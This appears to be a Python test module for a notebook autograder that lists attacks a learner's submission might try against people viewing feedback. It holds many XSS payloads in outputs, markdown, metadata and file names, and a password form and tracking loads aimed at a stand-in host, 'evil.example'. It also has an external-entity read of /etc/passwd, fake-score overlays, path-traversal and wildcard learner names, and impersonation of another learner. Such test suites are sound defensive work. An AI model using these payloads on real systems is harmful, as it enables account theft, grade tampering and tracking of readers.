"""Script, loads and links in outputs, markdown and names, for whoever opens feedback or a graded notebook."""

from __future__ import annotations

import json
from collections.abc import Mapping

from coursegrader.attacks.attack import Attack, Material, Submission
from coursegrader.attacks.course_files import Notebook, cell
from coursegrader.attacks.making import code, typed

_EVIL = "https://evil.example"


def _shows(identity: str, title: str, tries: str, *bundles: Mapping[str, object]) -> Attack:
    """An attack by rich output: each bundle is displayed by a cell."""
    code = "from IPython.display import display\nimport json\n" + "".join(
        f"display(json.loads({json.dumps(json.dumps(bundle))}), raw=True)\n" for bundle in bundles
    )
    return Attack(identity, "people", title, tries, typed(last=code + "got('armed')"))


def _html(identity: str, title: str, tries: str, *pieces: str) -> Attack:
    return _shows(identity, title, tries, *({"text/html": piece, "text/plain": "x"} for piece in pieces))


def _writes(identity: str, title: str, tries: str, *texts: str) -> Attack:
    """An attack by text cells that the learner added, markdown and raw ones."""

    def change(document: Notebook) -> None:
        for number, text in enumerate(texts):
            document["cells"].append(cell("markdown", f"text-{number}", text))
            document["cells"].insert(0, cell("raw", f"raw-{number}", text))
            document["cells"][-1]["attachments"] = {
                "x.svg": {"image/svg+xml": "<svg onload=alert(1)>"},
                '"><script>': {"image/png": '"><script>alert(1)</script>'},
            }

    return Attack(identity, "people", title, tries, typed(last="got('armed')", change=change))


ATTACKS = (
    _html(
        "script-in-html",
        "script in an output",
        "script elements in many spellings",
        "<script>alert(1)</script>",
        f"<SCRIPT/x src='{_EVIL}/x.js'></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<svg><script>alert(1)</script></svg><math><mtext><script>alert(1)</script></mtext></math>",
        "<noscript><p title='</noscript><script>alert(1)</script>'>",
        "<!--><script>alert(1)</script-->",
    ),
    _html(
        "event-handlers",
        "event handlers in an output",
        "onerror, onload, ontoggle, onfocus, animation events",
        "<img src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<b autofocus tabindex=0 onfocus=alert(1)>x</b><body onload=alert(1)>",
        "<img src='x'\x0conerror='alert(1)'><img/src/onerror=alert(1)>",
        "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    ),
    _html(
        "links-that-run",
        "links that run",
        "javascript:, data: and vbscript: in many spellings",
        "<a href='javascript:alert(1)'>x</a><a href='java\tscript:alert(1)'>x</a>",
        "<a href=' &#106;avascript:alert(1)'>x</a><a href='\x01javascript:alert(1)'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a><a href='vbscript:x'>x</a>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg><math href='javascript:alert(1)'>x</math>",
        "<form action='javascript:alert(1)'><button formaction='javascript:alert(2)'>x</button></form>",
    ),
    _html(
        "frames-and-objects",
        "frames, objects, forms and refresh",
        "iframe with srcdoc, object, embed, base, meta refresh, a login form",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data='data:text/html,x'></object><embed src=x>",
        f"<base href='{_EVIL}/'><meta http-equiv=refresh content='0;url={_EVIL}'>",
        f"<form action='{_EVIL}'><input name=password type=password><button>Log in</button></form>",
        "<portal src=x></portal><template shadowrootmode=open><script>alert(1)</script></template>",
    ),
    _html(
        "loads-from-elsewhere",
        "loads from elsewhere",
        "pictures, styles and fonts that tell who is reading, and when",
        f"<img src='{_EVIL}/pixel.png'><img srcset='{_EVIL}/x 2x' src=x><video poster='{_EVIL}/x'></video>",
        f"<link rel=stylesheet href='{_EVIL}/x.css'>",
        f"<style>@import '{_EVIL}/x.css'; b{{background:url({_EVIL})}}</style>",
        f"<div style=\"background:url('{_EVIL}/x')\">x</div><table background='{_EVIL}/x'><td>x</table>",
        f"<input type=image src='{_EVIL}/x'><audio src='{_EVIL}/x'></audio><a ping='{_EVIL}' href='#'>x</a>",
    ),
    _html(
        "style-that-reads",
        "style sheets that read the page",
        "CSS that hides the score, shows another, and sends what it matches",
        f"<style>p[data-score^='0']{{background:url({_EVIL}/0)}} .score{{display:none}}</style>",
        "<div style='position:fixed;inset:0;background:#fff;z-index:9999'>10 of 10 points</div>",
    ),
    _shows(
        "live-mime-types",
        "outputs of live types",
        "application/javascript, widgets, Vega, Bokeh, PDF, TeX, a JupyterLab extension's type",
        {"application/javascript": "alert(1)", "text/plain": "x"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}},
        {"application/vnd.vega.v5+json": {"usermeta": {"embedOptions": {"loader": {"target": _EVIL}}}}},
        {"application/vnd.bokehjs_exec.v0+json": "", "text/html": "<script>alert(1)</script>"},
        {"application/pdf": "JVBERi0=", "text/latex": "\\href{javascript:alert(1)}{x}"},
        {"application/vnd.plotly.v1+json": {"data": []}, "application/geo+json": {}, "text/vnd.mermaid": "graph"},
    ),
    _shows(
        "svg",
        "script in SVG",
        "SVG outputs with script, foreignObject, use and external entities",
        {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"},
        {"image/svg+xml": "<svg onload='alert(1)'/><foreignObject><iframe src='javascript:alert(1)'/></foreignObject>"},
        {"image/svg+xml": "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>"},
        {"image/svg+xml": f"<svg><use href='{_EVIL}/#x'/><image href='{_EVIL}/x.png'/></svg>"},
        {"image/svg+xml": 'x"><script>alert(1)</script>'},
    ),
    _shows(
        "pictures-that-are-not",
        "pictures that are none",
        "PNG and JPEG data, sizes and alternative texts that end the attribute",
        {"image/png": '"><script>alert(1)</script>'},
        {"image/jpeg": "x' onerror='alert(1)"},
        {"image/gif": "R0lGODlhAQABAAAAACw=", "image/png": ["aGVsbG8=", '"onload="alert(1)']},
    ),
    _shows(
        "markdown-and-tex-outputs",
        "markdown and TeX outputs",
        "raw HTML, link targets and MathJax macros in text/markdown and text/latex",
        {"text/markdown": "<script>alert(1)</script> [x](javascript:alert(1)) ![x](" + _EVIL + "/x.png)"},
        {"text/latex": '$\\href{javascript:alert(1)}{x}\\class{a" onload="alert(1)}{y}<img src=x onerror=alert(1)>$'},
        {"text/latex": "\\unicode{x3c}script\\unicode{x3e} \\require{html} \\style{background:url(" + _EVIL + ")}{x}"},
    ),
    Attack(
        "terminal-sequences",
        "people",
        "terminal sequences",
        "ANSI links, window titles, cursor moves and clipboard writes in streams and errors",
        typed(
            last=code(r"""
        print('\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07 \x1b]0;title\x07 \x1b[2J\x1b[10A 10 / 10')
        sys.stderr.write('\x1b]52;c;ZXZpbA==\x07<script>alert(1)</script>\n')
        got('armed')
        raise type('<img src=x onerror=alert(1)>', (Exception,), {})('\x1b[31m<script>alert(1)</script>')
""")
        ),
        proof="armed",
    ),
    _writes(
        "markdown-cells",
        "markdown cells of one's own",
        "raw HTML, reference links, autolinks, remote pictures, attachments and mermaid in markdown and raw cells",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "[x](javascript:alert(1)) [y][z]\n\n[z]: javascript:alert(1) 'x'\n\n<javascript:alert(1)>",
        f"![x]({_EVIL}/pixel.png) ![x][p]\n\n[p]: {_EVIL}/x.png",
        "$\\href{javascript:alert(1)}{x}$ \\begin{equation}\\class{x}{y}<img src=x onerror=alert(1)>\\end{equation}",
        '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
        '![x](attachment:x.svg) !["onload=alert(1)](attachment:x.svg)',
        "# <b onclick=alert(1)>heading</b> `<script>` {onclick=alert(1)}\n\n<div\nonclick=alert(1)>",
    ),
    Attack(
        "answer-in-html",
        "people",
        "script in the answer's own text",
        "program text, comments and strings that end the page's <pre>",
        typed(
            code("""
        # </code></pre></div><script>alert(1)</script> ]]> -->
        x = '''</pre><img src=x onerror=alert(1)>'''
        got('armed')
""")
        ),
    ),
    Attack(
        "widget-state",
        "people",
        "widgets and metadata that front ends run",
        "widget state, trusted flags, kernel and language names with HTML in the notebook's metadata",
        typed(
            last="got('armed')",
            change=lambda document: document["metadata"].update(
                {
                    "widgets": {
                        "application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_name": "HTMLModel"}}}
                    },
                    "signature": "sha256:0",
                    "title": "<script>alert(1)</script>",
                    "kernelspec": {"name": "<script>", "display_name": "<img src=x onerror=alert(1)>"},
                    "authors": [{"name": "<script>alert(1)</script>"}],
                }
            ),
        ),
    ),
    Attack(
        "names-in-html",
        "people",
        "script in a file's name",
        "file names with markup beside the notebook, and a notebook called <img onerror>",
        typed(
            last="got('armed')",
            files={
                "<img src=x onerror=alert(1)>.txt": b"x",
                "' onclick='alert(1).csv": b"x",
                "<script>alert(1)<.ipynb": b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
                "feedback/work.html": b"<script>alert(1)</script>",
                "work.html": b"<script>alert(1)</script>",
            },
        ),
    ),
    Attack(
        "name-of-a-learner",
        "people",
        "script and paths as a learner's name",
        "submits as <script>, as a path and as a pattern that matches everybody",
        lambda material: _named(material, "../ada<script>alert(1)</script>"),
        proof="may hold only",
        refused=True,
    ),
    Attack(
        "everybodys-name",
        "people",
        "a pattern as a learner's name",
        "submits as '*', which nbgrader would take for everybody",
        lambda material: _named(material, "*"),
        proof="may hold only",
        refused=True,
    ),
    Attack(
        "another-learners-id",
        "people",
        "another learner's name in the submission",
        "names Ada in metadata, timestamp and folder, to write into her rows",
        typed(
            last="got('armed')",
            files={
                "timestamp.txt": "1999-01-01 00:00:00 UTC",
                "submitted/$VICTIM/harbour/work.ipynb": b"{}",
                "ada_info.txt": "ada",
            },
            change=lambda document: document["metadata"].update(
                {"nbgrader": {"student": "ada", "score": 10}, "coursegrader": {"learner": "ada", "score": 15}}
            ),
        ),
    ),
)


def _named(material: Material, learner: str) -> Submission:
    return Submission(typed()(material).files, learner=learner)
